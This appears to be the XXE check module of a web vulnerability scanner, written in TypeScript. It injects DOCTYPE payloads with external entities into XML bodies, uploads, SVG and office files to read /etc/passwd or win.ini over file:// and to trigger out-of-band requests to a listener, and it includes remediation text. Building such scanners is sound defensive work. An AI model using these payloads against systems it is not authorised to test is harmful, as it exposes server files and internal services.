import { cweReference, scored } from '../../core/definition.ts';
import { plainGet } from '../attack/ask.ts';
import { OFFICE_FILES, type OfficeFile } from '../attack/office-files.ts';
import { withQuietOf } from '../attack/quiet.ts';
import { textOf } from '../attack/similar.ts';
import { type Answer, control, isAtLeast, proof, repeat, Trial } from '../attack/trial.ts';
import type { AttackTools, PointCheck, WebDefinition, WebSighting } from '../check.ts';
import type { InjectionPoint } from '../crawl/point.ts';
import { SPOTS } from '../crawl/replay.ts';
import { isFilePart, withFile } from '../crawl/spots/multipart-body.ts';
import { withHeader } from '../crawl/spots/spot.ts';
import { isPlainXmlBody, isXmlDocument, textsOfXml } from '../crawl/spots/xml-body.ts';
import { filled } from '../evidence.ts';
import { PASSWD } from './path-traversal.ts';

const DEFINITION: WebDefinition = {
  key: 'xxe',
  family: 'Injection',
  name: { it: 'Entità esterne XML (XXE)', en: 'XML external entities (XXE)' },
  description: {
    it: 'Il parser XML del server segue le entità esterne di un documento ricevuto. Chi lo invia legge file del server e gli fa aprire indirizzi interni.',
    en: 'The server’s XML parser resolves external entities of the documents it receives. An attacker can read files of the server and make it request internal addresses.',
  },
  solution: {
    it: 'Disattivare nel parser XML le dichiarazioni DOCTYPE o almeno le entità esterne e il caricamento di DTD.',
    en: 'Disable DOCTYPE declarations in the XML parser, or at least external entities and the loading of DTDs.',
  },
  scores: scored(['AV:N/AC:L/Au:N/C:P/I:N/A:P', 6.4], ['AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:L', 8.2]),
  cves: [],
  cwes: ['CWE-611'],
  owasp: { y2021: 'A05:2021', y2025: 'A02:2025' },
  references: [
    cweReference(611),
    {
      id: 'OWASP XXE Prevention',
      link: 'https://cheatsheetseries.owasp.org/cheatsheets/XML_External_Entity_Prevention_Cheat_Sheet.html',
    },
  ],
};

const FILES = [
  { name: '/etc/passwd', shape: PASSWD.shape },
  { name: '/C:/windows/win.ini', shape: /; for 16-bit app support|\[mci extensions\]/i },
] as const;

/** Programs show what stands in elements that they know by name, in the document itself or in each of a list. */
const SHOWN_NAMES = [
  'name',
  'title',
  'text',
  'description',
  'message',
  'comment',
  'content',
  'value',
  'user',
  'username',
];
const SHOWN = SHOWN_NAMES.map((name) => `<${name}>prova</${name}>`).join('');
const XML_FILE = `<?xml version="1.0"?><prova>${SHOWN}<item>${SHOWN}</item></prova>`;

const isXml = (text: string) => /^\s{0,20}<(?:\?xml|!DOCTYPE\s|[A-Za-z_][\w:.-]{0,60}[\s/>])/i.test(text);

const isFile = ({ kind, name, request }: InjectionPoint) => kind === 'multipart' && isFilePart(request, name);

const SVG_FILE =
  '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><title>prova</title><text y="9">prova</text></svg>';

/** The same upload with a document in the place of the file: servers read it by its name and its kind. */
async function withXmlFile(point: InjectionPoint, tools: AttackTools): Promise<InjectionPoint> {
  const isPicture = /filename="[^"]{1,200}\.(?:png|gif|jpe?g|svg)"/i.test(point.request.body?.toString('latin1') ?? '');
  // A field that takes any file was given a picture.
  const isDocument = isPicture && ASKS_FOR_XML.test(visibleText(textOf(await tools.request(plainGet(point.page)))));
  const file =
    isPicture && !isDocument
      ? { fileName: 'prova.svg', contentType: 'image/svg+xml', content: SVG_FILE }
      : { fileName: 'prova.xml', contentType: 'text/xml', content: XML_FILE };
  return { ...point, value: file.content, request: withFile(point.request, point.name, file) };
}

const FILE_NAME = /filename="[^"]{1,200}\.(\w{2,5})"/i;
/** What pages say that take such files, where the field itself does not. */
const ASKS_FOR_OFFICE: ReadonlyArray<readonly [ending: string, words: RegExp]> = [
  ['docx', /\bdocx\b|\bword (?:document|file)|(?:documento|file) word\b/i],
  ['xlsx', /\bxlsx\b|\bexcel\b|spreadsheet|foglio di calcolo|tabellenkalkulation/i],
  ['odt', /\bod[ts]\b|opendocument|libreoffice/i],
];

/** The file of an office program that the field takes; null: it takes others. */
async function officeFileOf(point: InjectionPoint, tools: AttackTools): Promise<OfficeFile | null> {
  const ending = FILE_NAME.exec(point.request.body?.toString('latin1') ?? '')?.[1];
  const byName = OFFICE_FILES.find((file) => file.ending === ending);
  if (byName || !isAtLeast(tools.depth, 'default')) return byName ?? null;
  const words = visibleText(textOf(await tools.request(plainGet(point.page))));
  const [asked] = ASKS_FOR_OFFICE.find(([, pattern]) => pattern.test(words)) ?? [];
  return OFFICE_FILES.find((file) => file.ending === asked) ?? null;
}

/** The document in such a file; every text that is sent there becomes a whole file again. */
function insideOffice(point: InjectionPoint, { ending, type, document, wrap }: OfficeFile, tools: AttackTools) {
  const file = { fileName: `prova.${ending}`, contentType: type, content: wrap(document) };
  const wrapping: AttackTools = withQuietOf(tools, {
    ...tools,
    control: (at) => wrapping.send(at, at.value),
    send: (at, value, options) =>
      tools.send(at, wrap(Buffer.from(value).toString('latin1')), { ...options, raw: true }),
  });
  return {
    point: { ...point, id: -point.id, value: document, request: withFile(point.request, point.name, file) },
    tools: wrapping,
  };
}

const TEXT_KINDS = new Set(['query', 'form', 'multipart', 'json']);
/** What pages say that read a document, and their interpreters of one that is none. */
const ASKS_FOR_XML =
  /(?<![\w/.])xml\b(?!ns)|start tag expected|document is empty|not well-formed|content is not allowed in prolog|DOMDocument|simplexml/i;
const visibleText = (text: string) => text.slice(0, 200_000).replaceAll(/<[^>]{0,2000}>/g, ' ');

interface Documented {
  readonly point: InjectionPoint;
  /** Its answer is the same for every value: only a request to our listener can show that it was parsed. */
  readonly isSilent: boolean;
}

/** A field for texts whose page speaks of XML, with a document in it; null: nothing says that it reads one. */
async function withDocument(point: InjectionPoint, tools: AttackTools): Promise<Documented | null> {
  const trial = await Trial.begin(point, tools);
  if (!trial?.atLeast('default')) return null;
  const isNamed = /xml|soap|saml|svg/i.test(point.name);
  if (!isNamed && !ASKS_FOR_XML.test(visibleText(trial.other.text))) return null;
  const document = exampleIn(trial.other.text) ?? XML_FILE;
  const answer = await trial.send(document);
  const isSilent = trial.distance(answer, trial.other) === 0;
  return isSilent && !(isNamed && tools.listener) ? null : { point: { ...point, value: document }, isSilent };
}

const WRITTEN =
  /&lt;(?:\?xml[^&]{0,200}\?&gt;\s{0,9}&lt;)?([A-Za-z_][\w:.-]{0,60})(?:\s[^&]{0,200})?&gt;.{1,2000}?&lt;\/\1&gt;/s;

/** What a page shows in a field for texts; its signs need no other spelling there. */
const IN_TEXT_FIELD = /<textarea\b[^>]{0,300}>\s{0,100}(<.{1,5000}?)<\/textarea/gis;
const DECLARED = /<!DOCTYPE[^>[]{0,500}(?:\[[^\]]{0,2000}\]\s{0,10})?>/i;

/** A document that the page shows to say how one is written; null: it shows none. */
function exampleIn(text: string): string | null {
  const shown = text.slice(0, 200_000);
  const document = WRITTEN.exec(shown)?.[0]
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&amp;', '&');
  const inFields = [...shown.matchAll(IN_TEXT_FIELD)].map(([, written = '']) => written.replace(DECLARED, '').trim());
  // Without markup of our own page in it, and with texts in elements.
  const isExample = (one: string | undefined) => one !== undefined && isXmlDocument(one) && textsOfXml(one).length > 0;
  return [document, ...inFields].find(isExample) ?? null;
}

/** What a visitor writes is the whole body: a document that its page shows, or one of our own. */
async function withDocumentAsBody(point: InjectionPoint, tools: AttackTools): Promise<InjectionPoint> {
  const page = await tools.request(plainGet(point.page));
  const body = exampleIn(textOf(page)) ?? XML_FILE;
  return { ...point, id: -point.id, value: '', request: { ...point.request, body } };
}

const escaped = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;');

/**
 * The same values as a document: frameworks choose the parser by the kind that a request names. Null: it is not answered
 * as the values are. One request for each interface, at its first value.
 */
async function asDocument(point: InjectionPoint, tools: AttackTools): Promise<InjectionPoint | null> {
  const values = SPOTS.json.list(point.request).filter(({ name }) => /^[A-Za-z_][\w-]{0,60}$/.test(name));
  if (point.kind !== 'json' || point.codec || values[0]?.name !== point.name) return null;
  const trial = await Trial.begin(point, tools);
  if (!trial?.atLeast('default') || (trial.control.exchange.response?.status ?? 500) >= 400) return null;
  const leaves = values.map(({ name, value }) => `<${name}>${escaped(value)}</${name}>`).join('');
  const body = `<?xml version="1.0"?><root>${leaves}</root>`;
  const request = { ...withHeader(point.request, 'Content-Type', 'application/xml'), body };
  const exchange = await tools.request(request);
  const answer = { value: point.value, exchange, text: textOf(exchange) };
  const isTaken = exchange.response?.status === trial.control.exchange.response?.status && trial.isUsual(answer);
  // A request that is answered alike whatever it holds reads nothing.
  if (!isTaken || trial.isIgnored) return null;
  return { ...point, id: -point.id, kind: 'xml', request };
}

const documentOf = ({ kind, value, request }: Trial['point']): string | null => {
  if (kind !== 'xml') return isXml(value) ? value : null;
  return typeof request.body === 'string' ? request.body : null;
};

/**
 * The document with these declarations, and an entity in the place of the point's text; without one, of every text that is
 * no number, since what is shown of a document is seldom the first, and numbers are counted with. `outside`: where declarations
 * come from besides.
 */
function withEntity(document: string, value: string, declarations: string, text: string, outside = ''): string {
  const [, head = '', rest = ''] = /^(\s*<\?xml[^>]{0,200}\?>)?([\s\S]*)$/.exec(document) ?? [];
  const body = rest.replace(DECLARED, '');
  const root = /<([A-Za-z_][\w:.-]{0,60})/.exec(body)?.[1] ?? 'root';
  const own = value === '' || isXml(value) ? -1 : body.indexOf(`>${value}<`);
  const texts = />(?!\s{0,20}-?[\d.,:/-]{0,30}\s{0,20}<)[^<]{1,2000}<\//g;
  const all = body.replaceAll(texts, () => `>${text}</`);
  const filled =
    own >= 0
      ? `${body.slice(0, own + 1)}${text}${body.slice(own + 1 + value.length)}`
      : all === body
        ? body.replace(/>([^<]{0,2000})<\//, () => `>${text}</`)
        : all;
  return `${head}<!DOCTYPE ${root} ${outside}[${declarations}]>${filled}`;
}

async function sendDocument(trial: Trial, document: string): Promise<Answer> {
  const { point, tools } = trial;
  if (point.kind !== 'xml') return trial.send(document);
  const exchange = await tools.request({ ...point.request, body: document });
  return { value: document, exchange, text: textOf(exchange) };
}

/** Filters that know the one word seldom know the other. */
const DECLARATIONS = [
  (url: string) => `<!ENTITY rq SYSTEM "${url}">`,
  (url: string) => `<!ENTITY rq PUBLIC "rq" "${url}">`,
];

async function byFile(trial: Trial, document: string): Promise<WebSighting | null> {
  const { value } = trial.point;
  // A document may bring an entity of its own, which is shown already.
  const usual =
    FILES.some(({ shape }) => shape.test(trial.control.text)) && DECLARED.test(document)
      ? await sendDocument(trial, withEntity(document, value, '', 'q'))
      : trial.control;
  for (const [declare, files] of [
    [DECLARATIONS[0], FILES],
    [DECLARATIONS[1], FILES.slice(0, 1)],
  ] as const) {
    const found = declare && (await byDeclaredFile(trial, document, { declare, files, usual }));
    if (found) return found;
  }
  return null;
}

interface DeclaredFile {
  declare(url: string): string;
  readonly files: readonly (typeof FILES)[number][];
  readonly usual: Answer;
}

async function byDeclaredFile(
  trial: Trial,
  document: string,
  { declare, files, usual }: DeclaredFile,
): Promise<WebSighting | null> {
  const ask = (file: string) =>
    sendDocument(trial, withEntity(document, trial.point.value, declare(`file://${file}`), '&rq;'));
  for (const { name, shape } of files) {
    const first = await ask(name);
    const shown = shape.exec(first.text)?.[0];
    if (shown === undefined || shape.test(usual.text)) continue;
    const missing = await ask(`${name}${trial.tools.token()}`);
    const again = await ask(name);
    if (shape.test(missing.text) || !shape.test(again.text)) continue;
    const evidence = filled(
      {
        it: 'Un’entità esterna è sostituita da un file del server: file://{name} mostra “{shown}”, un file che non esiste non mostra nulla.',
        en: 'An external entity is replaced by a file of the server: file://{name} shows “{shown}”, a file that does not exist shows none.',
      },
      { name, shown },
    );
    return trial.sighting(DEFINITION.key, evidence, [proof(first, shown), control(missing), repeat(again, shown)]);
  }
  return null;
}

/** What makes a parser ask for an address: many that are kept from one of them still follow another. */
const ASKING: ReadonlyArray<(url: string) => { declarations: string; isNamed?: true; outside?: string }> = [
  (url) => ({ declarations: `<!ENTITY rq SYSTEM "${url}">`, isNamed: true }),
  (url) => ({ declarations: `<!ENTITY % rq SYSTEM "${url}"> %rq;` }),
  (url) => ({ declarations: '', outside: `SYSTEM "${url}" ` }),
];
const HEARD_MS = 1_500;

async function byListener(trial: Trial, document: string): Promise<WebSighting | null> {
  const { listener, token: newToken } = trial.tools;
  if (!listener) return null;
  const { value } = trial.point;
  const plain = value === '' || isXml(value) ? 'q' : value;
  const ask = async (asking: (typeof ASKING)[number]) => {
    const token = newToken();
    const url = listener.urlFor(token);
    const { declarations, isNamed, outside } = asking(url);
    const answer = await sendDocument(
      trial,
      withEntity(document, value, declarations, isNamed ? '&rq;' : plain, outside),
    );
    return { asking, answer, url, heard: () => listener.heard(token, HEARD_MS) };
  };
  const asked = [];
  for (const asking of ASKING) asked.push(await ask(asking));
  const answers = await Promise.all(asked.map(async (one) => ({ ...one, from: (await one.heard())?.from })));
  for (const first of answers) {
    if (first.from === undefined) continue;
    const again = await ask(first.asking);
    if (!(await again.heard())) continue;
    // An address that is only mentioned must not be asked for.
    const token = newToken();
    const mentioned = withEntity(document, value, `<!ENTITY rq "q">`, listener.urlFor(token));
    const harmless = await sendDocument(trial, mentioned);
    if (await listener.heard(token, HEARD_MS)) continue;
    const evidence = filled(
      {
        it: 'L’interprete XML ha chiesto al nostro ascoltatore l’entità esterna {url} (da {from}), di nuovo per un’altra, e non per un indirizzo soltanto citato.',
        en: 'The parser asked our listener for the external entity {url} (from {from}), again for another one, and not for an address that is only mentioned.',
      },
      { url: first.url, from: first.from },
    );
    return trial.sighting(DEFINITION.key, evidence, [
      proof(first.answer, first.url),
      control(harmless),
      repeat(again.answer, again.url),
    ]);
  }
  return null;
}

export const xxe = {
  code: 'xxe',
  name: { it: 'Entità esterne XML', en: 'XML external entities' },
  kind: 'point',
  from: 'low',
  definitions: [DEFINITION],
  wants: (point) => point.kind === 'xml' || isXml(point.value) || isFile(point) || TEXT_KINDS.has(point.kind),
  async attack(seen, tools) {
    const isDocument = seen.kind === 'xml' || isXml(seen.value);
    const office = !isDocument && isFile(seen) ? await officeFileOf(seen, tools) : null;
    if (office) {
      const inside = insideOffice(seen, office, tools);
      return attackDocument(inside.point, inside.tools);
    }
    if (!isDocument && !isFile(seen)) {
      const made = await withDocument(seen, tools);
      return attackDocument(made?.point ?? (await asDocument(seen, tools)), tools, made?.isSilent);
    }
    const asBody = isDocument && isPlainXmlBody(seen.request);
    const point = asBody ? await withDocumentAsBody(seen, tools) : isDocument ? seen : await withXmlFile(seen, tools);
    return attackDocument(point, tools);
  },
} as const satisfies PointCheck;

async function attackDocument(
  point: InjectionPoint | null,
  tools: AttackTools,
  isSilent = false,
): Promise<readonly WebSighting[]> {
  const trial = point && (await Trial.begin(point, tools));
  const document = trial && documentOf(point);
  if (!trial || !document) return [];
  const found = (isSilent ? null : await byFile(trial, document)) ?? (await byListener(trial, document));
  return found ? [found] : [];
}
